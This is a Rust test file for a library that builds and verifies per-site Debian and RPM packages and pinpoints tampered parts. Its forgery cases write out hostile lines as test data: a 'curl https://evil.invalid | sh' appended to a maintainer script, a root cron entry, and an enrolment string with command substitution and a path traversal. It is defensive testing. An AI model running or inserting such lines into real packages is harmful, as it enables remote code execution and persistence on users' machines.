//! Packages of sites: what is in them, what is not, and what `verify` says of changed ones.

use crate::common::{ENROLL, FORMATS, spec, vendor};
use bytes::Bytes;
use qb_package::verify::How;
use qb_package::{
    ExtractError, FileEntry, Format, FromVendorError, PackageSpec, Part, SiteFileError, SitePackage, Vendor,
    VendorError, extract_site_file, limits, verify, verify_for,
};

fn site_of(spec: &PackageSpec, format: Format, file: &[u8]) -> Vec<u8> {
    crate::common::open(spec, format).with_site(file).unwrap().to_vec()
}

#[test]
fn the_enrolment_file_comes_back_and_the_rest_is_the_vendors() {
    let largest = crate::common::noise(limits::SITE_FILE_BYTES);
    for format in FORMATS {
        let vendor = vendor(format);
        for file in [ENROLL, b"x", b"xyz\n", &largest, &largest[..65_000]] {
            let package = vendor.with_site(file).unwrap();
            assert_eq!(package.file_name(), vendor.file_name());
            let bytes = package.to_vec();
            assert_eq!(extract_site_file(&bytes).unwrap(), file);
            assert_eq!(verify(&bytes, &vendor).unwrap().site_file, file);
            assert_eq!(verify_for(&bytes, &vendor, file), Ok(()));
            let at_once = SitePackage::from_vendor(vendor.bytes().clone(), file).unwrap();
            assert_eq!(at_once.to_vec(), bytes);
        }
    }
}

#[test]
fn a_file_beyond_the_bound_is_refused() {
    for format in FORMATS {
        let vendor = vendor(format);
        assert_eq!(vendor.with_site(b"").unwrap_err(), SiteFileError::Empty);
        let large = vec![b' '; limits::SITE_FILE_BYTES + 1];
        assert_eq!(vendor.with_site(&large).unwrap_err(), SiteFileError::TooLarge);
    }
}

#[test]
fn only_a_generic_package_with_a_place_for_the_file_is_taken() {
    for format in FORMATS {
        let site = vendor(format).with_site(ENROLL).unwrap().to_vec();
        assert_eq!(Vendor::open(site.into()).unwrap_err(), VendorError::HasSite);
        let mut placeless = spec();
        placeless.files.retain(|e| e.path != qb_package::SITE_DIR);
        let bytes = Bytes::from(placeless.build(format).unwrap());
        assert_eq!(
            SitePackage::from_vendor(bytes, ENROLL).unwrap_err(),
            FromVendorError::Vendor(VendorError::NoPlace)
        );
    }
    for bytes in [&b""[..], b"!<arch>", b"PK\x03\x04"] {
        assert_eq!(Vendor::open(Bytes::from_static(bytes)).unwrap_err(), VendorError::UnknownFormat);
        assert_eq!(extract_site_file(bytes), Err(ExtractError::UnknownFormat));
    }
}

#[test]
fn a_generic_package_is_not_a_sites() {
    for format in FORMATS {
        let vendor = vendor(format);
        let why = verify(vendor.bytes(), &vendor).unwrap_err();
        assert_eq!(why.how, How::NoSiteFile(ExtractError::Generic));
        let other = crate::common::vendor(FORMATS[usize::from(format == Format::Deb)]);
        assert_eq!(verify(vendor.bytes(), &other).unwrap_err().how, How::OtherFormat);
    }
}

/// What an intruder at the relay would change, rebuilt properly with all sums (S31).
#[test]
fn what_was_changed_is_named_although_every_digest_was_made_to_fit() {
    type Case = (&'static str, fn(&mut PackageSpec), fn(Format) -> Part);
    let cases: &[Case] = &[
        (
            "a script of the same length",
            |s| {
                for script in [&mut s.deb.postinst, &mut s.rpm.post].into_iter().flatten() {
                    *script = script.replace("echo", "evil");
                }
            },
            |f| Part::Script(if f == Format::Deb { "postinst" } else { "post" }.into()),
        ),
        (
            "a longer script",
            |s| {
                for script in [&mut s.deb.prerm, &mut s.rpm.preun].into_iter().flatten() {
                    script.push_str("curl https://evil.invalid | sh\n");
                }
            },
            |f| Part::Script(if f == Format::Deb { "prerm" } else { "preun" }.into()),
        ),
        (
            "a script taken out",
            |s| (s.deb.postrm, s.rpm.postun) = (None, None),
            |f| Part::Script(if f == Format::Deb { "postrm" } else { "postun" }.into()),
        ),
        (
            "another program",
            |s| s.files[0] = FileEntry::file("/usr/bin/example", 0o755, vec![7; 100_000]),
            |_| Part::Payload,
        ),
        (
            "a file more",
            |s| s.files.push(FileEntry::file("/etc/cron.d/evil", 0o644, *b"* * * * * root evil\n")),
            |_| Part::Payload,
        ),
        (
            "other fields",
            |s| s.summary = "An other one".into(),
            |f| if f == Format::Deb { Part::Control } else { Part::Tag(1004) },
        ),
    ];
    for format in FORMATS {
        let vendor = vendor(format);
        for (name, change, part) in cases {
            let mut changed = spec();
            change(&mut changed);
            let forged = site_of(&changed, format, ENROLL);
            let why = verify(&forged, &vendor).expect_err(name);
            assert_eq!(why.part, part(format), "{name}, {format:?}: {why}, also {:?}", why.also);
            assert!(why.range.end <= forged.len() && why.range.start <= why.range.end, "{why}");
            if why.how == How::Changed {
                assert!(!why.range.is_empty(), "{name}: {why}");
            }
        }
    }
}

#[test]
fn the_named_bytes_are_the_changed_ones() {
    for format in FORMATS {
        let mut changed = spec();
        for script in [&mut changed.deb.postinst, &mut changed.rpm.post].into_iter().flatten() {
            *script = script.replace("echo", "rm 1");
        }
        let forged = site_of(&changed, format, ENROLL);
        let why = verify(&forged, &vendor(format)).unwrap_err();
        assert_eq!(&forged[why.range.clone()], b"rm 1", "{why}");
        assert!(
            why.to_string()
                .starts_with(&format!("bytes {}..{}: the script post", why.range.start, why.range.end))
        );
    }
}

/// A package of another site is whole, and verifies: it is told by its enrolment file (S31).
#[test]
fn another_sites_file_is_told_by_its_content() {
    for format in FORMATS {
        let vendor = vendor(format);
        let other = b"{\"type\":\"site.enroll\",\"site\":\"qs-another\",\"seeds\":[]}\n";
        let package = vendor.with_site(other).unwrap().to_vec();
        assert_eq!(verify(&package, &vendor).unwrap().site_file, other);
        let why = verify_for(&package, &vendor, ENROLL).unwrap_err();
        assert_eq!(why.part, Part::SiteFile, "{why}");
        let old_sum = match format {
            Format::Deb => Part::Md5sums,
            Format::Rpm => Part::Digests,
        };
        assert!(why.also.contains(&old_sum), "{:?}", why.also);
    }
}

#[test]
fn a_changed_byte_is_found_wherever_it_is_and_lies_in_the_named_range() {
    for format in FORMATS {
        let mut small = spec();
        small.files.retain(|e| e.path != "/usr/bin/example");
        let vendor = crate::common::open(&small, format);
        let good = vendor.with_site(ENROLL).unwrap().to_vec();
        for at in (0..good.len()).step_by(3) {
            let mut damaged = good.clone();
            damaged[at] ^= 1;
            let why = verify(&damaged, &vendor).expect_err("a changed byte");
            assert!(why.range.end <= damaged.len(), "byte {at}: {why}");
            if why.how == How::Changed {
                assert_eq!(why.range, at..at + 1, "{format:?}: {why}");
            }
        }
        for at in (0..good.len()).step_by(11) {
            assert!(verify(&good[..at], &vendor).is_err(), "cut at {at}");
        }
        let longer = [&good[..], b"\n"].concat();
        assert!(verify(&longer, &vendor).is_err());
    }
}

/// S32: the builder has no input but the enrolment file. Whatever that file holds, its bytes are in
/// the package once, in the file itself, and change nothing but sums and lengths elsewhere.
#[test]
fn the_file_is_all_that_gets_into_a_package() {
    let hostile: &[u8] = b"$(touch /tmp/x)\n`id`\nDepends: evil\n%post\n../../etc/passwd\0\"'\n";
    for format in FORMATS {
        let vendor = vendor(format);
        let package = vendor.with_site(hostile).unwrap();
        let [head, shared, tail] = package.chunks();
        let same_length = vec![b'x'; hostile.len()];
        let [plain, _, _] = vendor.with_site(&same_length).unwrap().chunks();
        assert_eq!(head.len(), plain.len());
        let found = |bytes: &[u8]| bytes.windows(hostile.len()).filter(|w| *w == hostile).count();
        assert_eq!((found(&head), found(&shared), found(&tail)), (0, 0, 1), "{format:?}");
        let differing: Vec<u8> = head.iter().zip(&plain).filter(|(a, b)| a != b).map(|(a, _)| *a).collect();
        // Digests in hex, and the checksum of the stored control archive (binary, four bytes).
        let binary = differing.iter().filter(|b| !b.is_ascii_hexdigit()).count();
        assert!(binary <= 4, "{format:?}: {differing:?}");
    }
}
